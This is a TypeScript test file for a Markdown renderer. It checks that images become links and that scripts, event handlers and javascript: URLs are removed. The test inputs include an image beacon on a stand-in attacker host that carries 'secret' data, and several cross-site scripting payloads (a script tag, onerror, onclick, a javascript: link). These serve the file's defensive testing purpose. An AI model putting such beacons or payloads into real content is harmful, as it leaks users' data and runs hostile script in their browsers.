import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render-markdown';

describe('renderMarkdown', () => {
  it('renders Markdown and keeps ordinary links', () => {
    const html = renderMarkdown('# Today\n\n**Rain** at noon, see [the forecast](https://weather.example/today).');
    expect(html).toContain('<h1>Today</h1>');
    expect(html).toContain('<strong>Rain</strong>');
    expect(html).toContain('<a href="https://weather.example/today">the forecast</a>');
  });

  it('turns an image into a link, so opening the mail loads nothing from elsewhere', () => {
    const html = renderMarkdown('Chart: ![Sales by week](https://attacker.example/p.png?d=secret)');
    expect(html).not.toContain('<img');
    expect(html).toContain('<a href="https://attacker.example/p.png?d=secret">Image: Sales by week</a>');
  });

  it('strips scripts, handlers and javascript: links', () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><a href="javascript:alert(1)" onclick="x()">click</a><img src=x onerror=alert(1)>',
    );
    expect(html).not.toMatch(/<script|onclick|onerror|javascript:|<img/);
  });
});
